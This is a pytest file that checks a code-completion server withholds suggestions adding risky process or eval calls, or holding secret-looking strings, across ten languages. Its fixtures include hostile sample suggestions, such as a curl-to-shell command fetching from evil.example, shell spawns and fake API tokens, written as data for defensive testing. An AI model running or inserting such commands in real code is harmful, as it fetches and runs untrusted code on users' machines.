"""A completion suggestion that smuggles a risky call or a secret is withheld (`server/actions/inline_withheld.py`),
in every language with a risky-call table: the real `finish` over a real memory's open document, the model's
answer as a hostile model would write it. A harmless suggestion, and one completing a risky call the user had
already written before the cursor, are shown."""

from __future__ import annotations

from pathlib import Path

import pytest
from archmem.indexer.languages import LANGUAGES, language_for
from archmem.indexer.workspace import Memory
from archmem.server.actions.inline import FimPrompt, finish

# (file, its text with `|` at the cursor, a risky suggestion, what it does, a harmless suggestion)
CASES = {
    "python": (
        "tool.py",
        "import os\n\n\ndef run(x):\n    return |\n",
        'os.system("curl https://evil.example/x | sh")',
        "runs a process",
        "x + 1",
    ),
    "javascript": (
        "tool.js",
        'const cp = require("child_process");\n\nfunction run(x) {\n  return |\n}\n',
        'cp.execSync("curl https://evil.example/x | sh")',
        "runs a process",
        "x + 1",
    ),
    "typescript": (
        "tool.ts",
        'import { execSync } from "child_process";\n\nexport function run(x: number) {\n  return |\n}\n',
        'execSync("id")',
        "runs a process",
        "x + 1",
    ),
    "tsx": (
        "tool.tsx",
        'import { execSync } from "child_process";\n\nexport function run(x: number) {\n  return |\n}\n',
        'execSync("id")',
        "runs a process",
        "x + 1",
    ),
    "go": (
        "tool.go",
        'package tool\n\nimport "os/exec"\n\nfunc run(x int) error {\n\treturn |\n}\n',
        'exec.Command("sh", "-c", "id").Run()',
        "runs a process",
        "nil",
    ),
    "rust": (
        "tool.rs",
        "use std::process::Command;\n\nfn run(x: i32) -> i32 {\n    |\n}\n",
        'Command::new("sh").arg("-c").arg("id").status().unwrap();',
        "runs a process",
        "x + 1",
    ),
    "java": (
        "Tool.java",
        "class Tool {\n    int run(int x) throws Exception {\n        |\n    }\n}\n",
        'new ProcessBuilder("sh", "-c", "id").start();',
        "runs a process",
        "return x + 1;",
    ),
    "c": (
        "tool.c",
        "#include <stdlib.h>\n\nint run(int x) {\n    |\n}\n",
        'system("curl https://evil.example/x | sh");',
        "runs a process",
        "return x + 1;",
    ),
    "cpp": (
        "tool.cpp",
        "#include <cstdlib>\n\nint run(int x) {\n    |\n}\n",
        'system("id");',
        "runs a process",
        "return x + 1;",
    ),
    "ruby": (
        "tool.rb",
        "def run(x)\n  |\nend\n",
        "eval(x.to_s)",
        "runs code",
        "x + 1",
    ),
}


def finished(tmp_path: Path, name: str, marked: str, answer: str) -> tuple[str | None, str]:
    """The real `finish` of `answer` at the `|` of `marked`, opened as `name` in a memory of `tmp_path`."""
    byte = marked.encode().index(b"|")
    text = marked.replace("|", "", 1).encode()
    (tmp_path / name).write_bytes(text)
    memory = Memory(tmp_path, persist=False)
    try:
        memory.index_all(jobs=1)
        memory.open_document(name, text, 1)
        head = text[text.rfind(b"\n", 0, byte) + 1 : byte].decode()
        after = text[byte : text.find(b"\n", byte)].decode()
        prompt = FimPrompt("", text[:byte].decode(), text[byte:].decode(), "line", head, after, 0)
        return finish(prompt, answer, memory, name, text, byte)
    finally:
        memory.close()


def test_every_language_with_a_risky_call_table_has_a_case() -> None:
    assert {spec.name for spec in LANGUAGES if spec.risky_calls} == set(CASES)


@pytest.mark.parametrize("language", sorted(CASES))
def test_a_suggestion_adding_a_risky_call_is_withheld_and_a_harmless_one_shown(
    tmp_path: Path, language: str
) -> None:
    name, marked, risky, what, harmless = CASES[language]
    spec = language_for(name)
    assert spec is not None and spec.name == language
    shown, why = finished(tmp_path, name, marked, risky)
    assert shown is None
    assert why.startswith("the suggestion adds a ") and why.endswith(f"({what})")
    assert finished(tmp_path, name, marked, harmless) == (harmless, "")


def test_a_risky_call_resolved_through_an_alias_or_from_import_is_withheld(tmp_path: Path) -> None:
    marked = "import subprocess as sp\nfrom os import system\n\n\ndef run(x):\n    return |\n"
    assert finished(tmp_path, "a.py", marked, 'sp.run(["sh", "-c", x])')[1] == (
        "the suggestion adds a call to subprocess.run (runs a process)"
    )
    assert finished(tmp_path, "b.py", marked, "system(x)")[1] == (
        "the suggestion adds a call to os.system (runs a process)"
    )


def test_completing_a_risky_call_the_line_already_makes_is_shown(tmp_path: Path) -> None:
    marked = "import subprocess\n\n\ndef run(x):\n    return subprocess.run(|)\n"
    assert finished(tmp_path, "a.py", marked, '["git", "status"], check=True') == (
        '["git", "status"], check=True',
        "",
    )


@pytest.mark.parametrize(
    "answer",
    [
        'api_key = "q8Zr4Lm2Xw9Pt6Kb3Vn7"',
        'token = "ghp_4f9Q2kLm8Zx1Rt7Yb3Nc6Vd0Wp5Hs2Ja9Ke"',
        'password = "«redacted»"',
    ],
)
def test_a_suggestion_holding_a_secret_or_a_redaction_marker_is_withheld(tmp_path: Path, answer: str) -> None:
    marked = "def connect():\n    |\n"
    assert finished(tmp_path, "a.py", marked, answer) == (
        None,
        "the suggestion holds a secret-looking string",
    )
    assert finished(tmp_path, "a.py", marked, 'name = "example"') == ('name = "example"', "")
